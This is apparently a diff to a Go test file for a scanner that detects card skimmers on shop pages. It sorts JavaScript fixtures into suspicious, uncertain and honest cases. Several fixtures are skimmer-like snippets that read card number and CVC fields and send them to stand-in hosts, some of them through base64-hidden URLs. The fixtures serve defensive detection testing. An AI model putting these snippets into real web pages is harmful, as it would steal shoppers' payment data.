@@ -56,6 +56,9 @@ var thieves = map[string]string{
 // uncertain are small scripts that thieves and honest people may write.
 var uncertain = map[string]string{
 	"to an unknown company":   `$('#pay').on('click',function(){$.post("https://api.small-gateway.example/token",{number:$('#card-number').val(),cvc:$('#card-cvc').val()})});`,
+	"a pixel close to cards":  `$('#pay').click(function(){$.post("/pay",{number:$('#card-number').val(),cvc:$('#cvc').val()});new Image().src="https://px.small-affiliate.example/i?u="+location});`,
+	"a beacon of the event":   `$('#pay').click(function(){var card={number:$('#card-number').val(),cvc:$('#cvc').val()};$.post("/pay",card)});navigator.sendBeacon("https://in.small-stats.example/e",JSON.stringify({event:"pay"}))`,
+	"escaped by an encoder":   `var u="https\u003A\u002F\u002Fmy\u002Dgateway.example\u002Fapi";$.post(u,{number:$('#card-number').val(),cvc:$('#cvc').val()});`,
 	"a whole form":            `var p=jQuery("#checkout").serializeArray();jQuery.ajax({type:"POST",url:"https://collect.example/x",data:p})`,
 	"hidden, the number only": `fetch(atob("` + b64("https://cdn-metrics.top/c") + `"),{body:document.querySelector('#card-number').value})`,
 	"hidden, every field":     `document.querySelectorAll("input, select").forEach(function(i){i.onblur=function(){fetch(atob("` + b64("https://cdn-metrics.top/c") + `"),{body:i.value})}})`,
@@ -70,22 +73,26 @@ var uncertain = map[string]string{
 
 // honest are scripts of kinds that shops really have, in words of our own.
 var honest = map[string]string{
-	"a tag manager":        `(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],j=d.createElement(s);j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id='+i;f.parentNode.insertBefore(j,f)})(window,document,'script','dataLayer','GTM-X');`,
-	"an unknown statistic": `(function(){var s=document.createElement('script');s.src='https://cdn.small-stats.example/t.js';document.head.appendChild(s);new Image().src='https://px.small-stats.example/i?u='+location})();`,
-	"a pixel":              `!function(f,b){f.fbq=function(){};var t=b.createElement('script');t.src='https://connect.facebook.net/en_US/fbevents.js'}(window,document);fbq('track','AddPaymentInfo')`,
-	"a recorder":           `var masked=["cc-number","cvv","cardnumber","password"];function rec(e){if(masked.indexOf(e.name)>=0)return;navigator.sendBeacon("https://in.small-recorder.example/r",e.value)}`,
-	"a known company":      `var c={number:$('#card-number').val(),cvc:$('#cvc').val()};$.post("https://api.stripe.com/v1/tokens",c)` + `;$.getScript("https://js.stripe.com/v3/")`,
-	"the shop itself":      `var c={number:$('#card-number').val(),cvc:$('#cvc').val()};$.post("https://api.shop.test/pay",c);fetch("/pay",{body:c})`,
-	"a pixel beside cards": `$('#pay').click(function(){var c={number:$('#card-number').val(),cvc:$('#cvc').val()};$.post("/pay",c)});` + strings.Repeat("/* the shop's own, long enough to be apart */", 8) + `new Image().src="https://px.small-affiliate.example/i?u="+encodeURIComponent(location.href);`,
-	"a validator":          `/* see https://small-docs.example/card */ $.fn.card=function(){return {cardNumber:/^4[0-9]{12}/,cvc:/[0-9]{3}/,expiry:1}};`,
-	"a newsletter":         `$('#news').submit(function(){$.post("https://lists.small-mail.example/subscribe",$(this).serialize())})`,
-	"the checkout's own":   `$('form.checkout').on('submit',function(){$.ajax({type:'POST',url:wc_checkout_params.checkout_url,data:$('form.checkout').serialize()})});var help="https://help.small-theme.example/";`,
-	"data in JSON":         `var c={"url":"https:\/\/shop.test\/","text":"\u003cb\u003eStra\u00dfe\u003c\/b\u003e \u0026 mehr"}`,
-	"a picture in base64":  `var logo="data:image/png;base64,` + strings.Repeat("iVBORw0KGgo", 40) + `";function dec(s){return atob(s)}`,
-	"statistics in hiding": `fetch(atob("` + b64("https://in.small-stats.example/e") + `"),{body:location.href})`,
-	"letters from numbers": `for(var i=65;i<91;i++)abc+=String.fromCharCode(i);var t=[104,116,116,112,115,58,47,47,97]`,
-	"a loader in pieces":   `document.write('<scr'+'ipt src="https://cdn.small-stats.example/a.js"></scr'+'ipt>')`,
-	"umlauts":              strings.Repeat(`"\u00fcber Gr\u00f6\u00dfe \xe4ndern"`, 30),
+	"a tag manager":         `(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],j=d.createElement(s);j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id='+i;f.parentNode.insertBefore(j,f)})(window,document,'script','dataLayer','GTM-X');`,
+	"an unknown statistic":  `(function(){var s=document.createElement('script');s.src='https://cdn.small-stats.example/t.js';document.head.appendChild(s);new Image().src='https://px.small-stats.example/i?u='+location})();`,
+	"a pixel":               `!function(f,b){f.fbq=function(){};var t=b.createElement('script');t.src='https://connect.facebook.net/en_US/fbevents.js'}(window,document);fbq('track','AddPaymentInfo')`,
+	"a recorder":            `var masked=["cc-number","cvv","cardnumber","password"];function rec(e){if(masked.indexOf(e.name)>=0)return;navigator.sendBeacon("https://in.small-recorder.example/r",e.value)}`,
+	"a known company":       `var c={number:$('#card-number').val(),cvc:$('#cvc').val()};$.post("https://api.stripe.com/v1/tokens",c)` + `;$.getScript("https://js.stripe.com/v3/")`,
+	"the shop itself":       `var c={number:$('#card-number').val(),cvc:$('#cvc').val()};$.post("https://api.shop.test/pay",c);fetch("/pay",{body:c})`,
+	"a way to pay":          `function put(n){var expirationDate=new Date();document.cookie=n+expirationDate}$('[name=payment]').change(function(){if($(this).val()=='credit_card')show()});new Image().src='https://px.small-affiliate.example/i?o='+$('#order').val()`,
+	"a gesture and a store": `el.style.touchAction="pan-y";localStorage.setItem(k,JSON.stringify({value:v,expiry:t}));navigator.sendBeacon("https://in.small-stats.example/e",JSON.stringify({value:1}))`,
+	"data for a script":     `window.__STATE__=JSON.parse(decodeURIComponent("` + strings.Repeat("%7B%22name%22%3A%22tea%22%2C%22price%22%3A12%7D%2C", 30) + `"))`,
+	"data with escapes":     `window.__STATE__=JSON.parse('` + strings.Repeat(`\x7b\x22name\x22:\x22tea\x22\x7d,`, 30) + `')`,
+	"a pixel beside cards":  `$('#pay').click(function(){var c={number:$('#card-number').val(),cvc:$('#cvc').val()};$.post("/pay",c)});` + strings.Repeat("/* the shop's own, long enough to be apart */", 8) + `new Image().src="https://px.small-affiliate.example/i?u="+encodeURIComponent(location.href);`,
+	"a validator":           `/* see https://small-docs.example/card */ $.fn.card=function(){return {cardNumber:/^4[0-9]{12}/,cvc:/[0-9]{3}/,expiry:1}};`,
+	"a newsletter":          `$('#news').submit(function(){$.post("https://lists.small-mail.example/subscribe",$(this).serialize())})`,
+	"the checkout's own":    `$('form.checkout').on('submit',function(){$.ajax({type:'POST',url:wc_checkout_params.checkout_url,data:$('form.checkout').serialize()})});var help="https://help.small-theme.example/";`,
+	"data in JSON":          `var c={"url":"https:\/\/shop.test\/","text":"\u003cb\u003eStra\u00dfe\u003c\/b\u003e \u0026 mehr"}`,
+	"a picture in base64":   `var logo="data:image/png;base64,` + strings.Repeat("iVBORw0KGgo", 40) + `";function dec(s){return atob(s)}`,
+	"statistics in hiding":  `fetch(atob("` + b64("https://in.small-stats.example/e") + `"),{body:location.href})`,
+	"letters from numbers":  `for(var i=65;i<91;i++)abc+=String.fromCharCode(i);var t=[104,116,116,112,115,58,47,47,97]`,
+	"a loader in pieces":    `document.write('<scr'+'ipt src="https://cdn.small-stats.example/a.js"></scr'+'ipt>')`,
+	"umlauts":               strings.Repeat(`"\u00fcber Gr\u00f6\u00dfe \xe4ndern"`, 30),
 }
 
 // inPage judges a page with a script in it.
@@ -137,7 +144,7 @@ func TestJudgeFile(t *testing.T) {
 		says string
 	}{
 		{"a thief in a file", script(thieves["base64"], nil, false), scanner.Fail, "(login) reads card fields"},
-		{"an honest file", script(honest["a tag manager"], nil, false), scanner.Pass, "visible from outside in 1 script that"},
+		{"an honest file", script(honest["a tag manager"], nil, false), scanner.Pass, "visible from outside in 1 page and 1 script that"},
 		{"unreadable names and cards", script(uncertain["made-up names"]+`"cardnumber","cvv"`, nil, false), scanner.Warn, "made unreadable"},
 		{"unreadable names alone", script(uncertain["made-up names"], nil, false), scanner.Pass, "Nothing"},
 		{"not fetched", script("", &observe.Failure{Cause: observe.Timeout, Words: "no answer in time"}, false), scanner.Unknown, "where they log in or pay 1 could not be read, or not wholly: no answer in time"},
